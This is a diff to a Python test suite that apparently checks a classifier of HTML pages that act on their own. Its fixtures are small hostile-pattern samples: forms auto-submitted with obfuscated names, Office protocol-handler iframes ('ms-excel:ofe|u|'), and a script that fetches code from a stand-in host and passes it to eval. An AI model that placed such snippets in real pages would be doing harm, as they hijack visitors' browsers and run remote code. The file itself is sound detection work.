@@ -113,6 +113,7 @@ def test_programs_of_old_browsers(page):
     (WORDS + "<form id=f></form><script>f.action=atob('aHR0cHM6Ly9hLmV4YW1wbGUv');f['sub'+'mit']()</script>", "leads on by itself"),
     ("<p>Wait</p><form id=f action=https://a.example/></form><script>f['sub'+'mit']()</script>", "leads on by itself"),
     ("<script>location='ms-x:y'</script>", "calls a program"),
+    (WORDS + "<iframe src='ms-excel:ofe|u|https://a.example/b'></iframe><a href='https://a.example/'>a</a>", "calls a program"),
     ("<p>Wait</p><script>document.body.append(Object.assign(document.createElement('iframe'),{src:'https://a.example/'}))</script>",
      "is filled by another page"),
     ("<p>Wait</p><script>self['fet'+'ch']('https://a.example/').then(eval)</script>", "gets its code from elsewhere"),
@@ -134,7 +135,9 @@ def test_played_pages_that_lead_away(source, way):
     "<script>if(/Android/.test(navigator.userAgent))location.href='https://m.example/'</script>",
     "<p>Hi</p><script>var s=document.createElement('script');s.src='https://www.google-analytics.com/analytics.js';document.head.append(s)</script>",
     "<button onclick=\"location='https://a.example/'\">Go</button>",
+    WORDS + "<iframe src='data:text/plain,x'></iframe><iframe src='cid:a'></iframe><iframe src='mailto:a'></iframe><a href='ms-word:ofe|u|https://a.example/'>x</a>",
     WORDS + "<button onclick=\"location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')\">Go</button>",
+    WORDS[:400] + "<button onclick=\"location='https://'+navigator.language.slice(0,2)+'.wiki.example/'\">Go</button>",
     WORDS + "<button onclick='crypto.subtle.decrypt({},k,new Uint8Array(99))'>Go</button>",
     "<script>document.write('" + "There is something to read here. " * 9 + "<img src=https://a.example/a.png>')</script>",
 ])
